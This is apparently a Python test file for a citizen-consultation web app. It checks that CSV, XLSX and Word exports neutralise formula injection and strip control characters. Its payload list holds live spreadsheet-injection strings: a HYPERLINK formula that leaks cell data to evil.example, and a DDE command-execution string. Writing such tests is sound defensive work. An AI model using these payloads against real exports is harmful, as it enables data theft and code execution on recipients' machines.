"""Attacks through exported files: formulas and control characters sent as anonymous answers."""

from __future__ import annotations

import csv
import io
import zipfile

import docx
import openpyxl
import pytest
from sqlalchemy import insert, select, update

from consult.models import Answer, QuoteDecision
from tests.staff_data import fresh_cache, voltaire_data  # noqa: F401
from tests.web.api.helpers_api import make_payload, post_json

EXPORTS = "/equipe/c/concertation-citoyenne/exports"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def attacked(client, auth, session):
    """Seven anonymous respondents of Voltaire, each sending one payload as an atout."""
    for text in PAYLOADS:
        payload = make_payload(session, atouts=text, age="40_59", genre="femme")
        assert post_json(client, "/api/v1/submissions", payload).status_code == 201
    auth.login()
    return client


def test_csv_cells_that_could_start_a_formula_get_an_apostrophe(attacked):
    data = attacked.get(f"{EXPORTS}/reponses.csv").data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    texts = [row[rows[0].index("Texte")] for row in rows[1:]]
    # The long-text rule strips surrounding whitespace, so « \t=1+1 » arrives as « =1+1 ».
    expected = {"'" + text.strip() for text in PAYLOADS}
    assert set(texts) == expected
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_xlsx_cells_are_plain_strings_never_formulas(attacked):
    data = attacked.get(f"{EXPORTS}/reponses.xlsx").data
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in {t.strip() for t in PAYLOADS}:
        assert cells[text].data_type == "s"  # the answer, word for word, as text
        assert cells[text].quotePrefix  # Excel keeps it as text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_control_characters_already_stored_are_stripped_from_every_file(client, auth, session):
    """Answers stored before the door refused them must not break the exports (500 before)."""
    voltaire_data(session)
    with session.begin():
        session.execute(
            update(Answer)
            .where(Answer.question_key == "priorites", Answer.text.like("Plus de sécurité%"))
            .values(text="Plus de\x01 sécurité\x0b le soir\x1f, rodéos")
        )
        answers = session.scalars(select(Answer.id)).all()  # every quote may reach the report
        session.execute(
            insert(QuoteDecision), [{"answer_id": a, "publishable": True} for a in answers]
        )
    auth.login()
    csv_text = client.get(f"{EXPORTS}/reponses.csv").data.decode("utf-8-sig")
    assert "Plus de sécurité le soir, rodéos" in csv_text and "\x01" not in csv_text
    xlsx = client.get(f"{EXPORTS}/reponses.xlsx")
    assert xlsx.status_code == 200
    texts = [c.value for row in openpyxl.load_workbook(io.BytesIO(xlsx.data)).active for c in row]
    assert "Plus de sécurité le soir, rodéos" in texts
    report = client.get("/equipe/c/concertation-citoyenne/bilan.docx")
    assert report.status_code == 200
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(report.data)).paragraphs)
    assert "Plus de sécurité le soir" in text  # quotes also normalise spaces
    assert not any(c in text for c in "\x01\x0b\x1f")
    stored = session.scalars(select(Answer.text).where(Answer.text.like("Plus de%"))).all()
    assert stored and all("\x01" in t for t in stored)  # raw answers stay as they were
